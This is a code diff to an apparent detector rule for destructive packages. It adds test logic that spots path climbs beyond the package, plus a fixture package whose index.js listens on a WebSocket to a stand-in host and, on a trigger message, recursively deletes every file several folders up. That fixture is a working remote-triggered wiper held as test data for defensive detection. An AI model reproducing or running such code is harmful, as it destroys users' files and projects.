@@ -29,6 +29,13 @@ export default defineRule({
   examples: {
     flags: [
       {
+        title: 'a message has the project emptied, file by file',
+        files: {
+          'package.json': `{"name":"sheets","version":"1.0.0","main":"index.js"}`,
+          'index.js': `const WebSocket = require('ws'), fs = require('fs'), path = require('path');\nfunction clear(folder) {\n  for (const name of fs.readdirSync(folder)) {\n    const file = path.join(folder, name);\n    if (fs.lstatSync(file).isDirectory()) clear(file);\n    else fs.unlinkSync(file);\n  }\n}\nnew WebSocket('wss://informer.invalid').on('message', text => { if (String(text) === 'back to nothing') clear(path.resolve(__dirname, '../../..')); });\nmodule.exports = {};`,
+        },
+      },
+      {
         title: 'some rows are gone with each that is saved',
         files: {
           'package.json': `{"name":"a","version":"1.0.0","main":"index.js"}`,
@@ -232,6 +239,8 @@ function deletions(context: FileContext): readonly Deletion[] {
     const [path, options] = call.args;
     if (path && isOfProject(context, path))
       found.push({ call, what: 'files of whoever loads it', isOther: false, isKept: true });
+    if (path && listingsOf(context, path).some(({ args: [folder] }) => folder && isAround(context, folder)))
+      found.push({ call, what: 'the project that it is installed in', isOther: false });
     if (!path || /\bunlink(?:Sync)?$/.test(call.name) || isElsewhere(context, call)) continue;
     if (/^fs\./.test(call.name) && !(options && /recursive/.test(spelling(context.file, options).slice(0, 500))))
       continue;
@@ -341,6 +350,16 @@ function isHere({ namesOf, textsOf, labelsOf }: FileContext, path: AnyNode): boo
     texts.every(text => HERE.test(text)) ||
     (texts.every(text => /^…[\\/]\*{1,2}$/.test(text)) &&
       labelsOf(path).some(({ kind, detail }) => kind === 'system' && detail === 'working folder'))
+  );
+}
+
+/** `path.resolve(__dirname, '../../..')`: more folders up than the package has. */
+function isAround({ file, textsOf, labelsOf }: FileContext, folder: AnyNode): boolean {
+  const depth = file.path.split('/').length - 1;
+  return (
+    textsOf(folder).some(
+      text => /^…[\\/]{0,2}(?:\.\.[\\/]{0,2}){2,12}$/.test(text) && (text.match(/\.\./g) ?? []).length > depth,
+    ) && labelsOf(folder).some(({ kind, detail }) => kind === 'system' && detail === 'install folder')
   );
 }
 
